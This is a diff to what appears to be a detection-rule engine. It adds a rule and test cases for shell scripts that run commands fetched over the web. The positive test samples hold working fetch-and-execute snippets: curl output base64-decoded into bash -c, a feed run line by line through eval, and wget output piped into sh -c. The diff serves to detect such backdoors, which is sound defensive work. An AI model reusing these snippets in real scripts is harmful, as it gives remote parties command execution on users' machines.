@@ -227,6 +227,15 @@ ENGINE_RULES = (
         "block or run with Invoke-Expression, through variables, loops and helper functions",
     ),
     Rule(
+        "shell.remote-code",
+        ("9.1",),
+        "critical",
+        "shell",
+        "remote command channel in shell: what a web request returned is run with eval, "
+        "bash -c or a pipe into a shell, through variables, read loops, helper functions and "
+        "sourced libraries",
+    ),
+    Rule(
         "shell.gated-trigger",
         ("9.2",),
         "high",
@@ -643,6 +652,23 @@ ENGINE_EXAMPLES: dict[str, tuple[str | None, tuple[str, ...], tuple[str, ...]]] 
             "$feed = Get-Feed\nforeach ($a in $feed) { Write-Host $a.title }",
             "$status = Invoke-RestMethod -Uri $api\n"
             "$check = [ScriptBlock]::Create('Get-Service sync')\n& $check",
+        ),
+    ),
+    "shell.remote-code": (
+        "scripts/beat.sh",
+        (
+            'poll() { curl -fsS "$STATUS_URL/tasks"; }\n'
+            'apply() { local s; s="$(jq -r .run <<<"$1" | base64 -d)"; bash -c "$s" & }\n'
+            'resp="$(poll)"\napply "$resp"',
+            'curl -s "$FEED" | while read -r step; do\n  eval "$step"\ndone',
+            'while IFS= read -r cmd; do\n  sh -c "$cmd"\ndone < <(wget -qO- "$Q/next")',
+        ),
+        (
+            'poll() { curl -fsS "$STATUS_URL/tasks"; }\n'
+            'apply() { local s; s="$(jq -r .name <<<"$1")"; echo "task: $s"; }\n'
+            'resp="$(poll)"\napply "$resp"\nbash -c "$LOCAL_HOOK"',
+            'tag="$(curl -s "$API/latest" | jq -r .tag)"\nbash -c "git checkout $tag"',
+            'curl -so tasks.txt "$FEED"\nwhile read -r step; do\n  eval "$step"\ndone < "$1"',
         ),
     ),
     "powershell.secret-upload": (
